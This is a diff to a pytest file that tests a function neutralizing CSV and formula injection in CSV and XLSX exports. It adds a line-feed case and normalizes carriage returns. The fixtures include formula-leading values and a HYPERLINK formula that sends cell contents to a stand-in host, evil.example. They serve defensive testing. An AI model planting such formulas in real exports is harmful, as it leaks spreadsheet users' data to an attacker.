@@ -21,10 +21,13 @@ ROWS = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"], ids=repr)
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"], ids=repr
+)
 def test_a_cell_starting_like_a_formula_gets_an_apostrophe(text):
-    """= + - @ tab and carriage return at the start: OWASP's "CSV injection" list."""
-    assert neutralize(text) == "'" + text
+    """= + - @ tab and carriage return at the start: OWASP's "CSV injection" list (a carriage
+    return comes out as a line feed, as XLSX would read it back)."""
+    assert neutralize(text) == "'" + text.replace("\r", "\n")
 
 
 @pytest.mark.parametrize(
@@ -45,7 +48,7 @@ def test_control_characters_are_dropped_before_defusing():
     what they hid at the start is defused."""
     assert neutralize("Jean\x0bPaul\x00") == "JeanPaul"
     assert neutralize("\x0b=1+1") == "'=1+1"
-    assert neutralize("deux\tmots\nsur\rlignes") == "deux\tmots\nsur\rlignes"
+    assert neutralize("deux\tmots\nsur\rtrois\r\nlignes") == "deux\tmots\nsur\ntrois\nlignes"
 
 
 def read_csv(data: bytes) -> list[list[str]]:
@@ -73,7 +76,7 @@ def test_csv_cells_are_defused_and_numbers_written_the_french_way():
     ]  # fmt: skip
     assert rows[2][0] == '\'=HYPERLINK("https://evil.example/?"&A1,"Clic")'
     assert rows[2][2] == ""  # None
-    assert rows[3] == ["'+33 6 12 34 56 78", "'@attaquant", "'-2+3", "'\tcmd", "-4", "", "'\r=1+1"]
+    assert rows[3] == ["'+33 6 12 34 56 78", "'@attaquant", "'-2+3", "'\tcmd", "-4", "", "'\n=1+1"]
     assert rows[4][0] == "Marie-Claire Dupont"
     assert rows[4][3] == "a=b"
     assert rows[4][4] == "100"
@@ -118,7 +121,7 @@ def test_xlsx_opens_in_openpyxl_with_the_same_defused_values():
     ]  # fmt: skip
     assert values[3] == [
         "'+33 6 12 34 56 78", "'@attaquant", "'-2+3", "'\tcmd", -4, None,
-        "'\n=1+1",  # XML reads a carriage return as a line feed
+        "'\n=1+1",  # line endings made LF, as XML would read them back
     ]  # fmt: skip
     assert values[4][:5] == ["Marie-Claire Dupont", "mc@example.org", None, "a=b", 100]
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
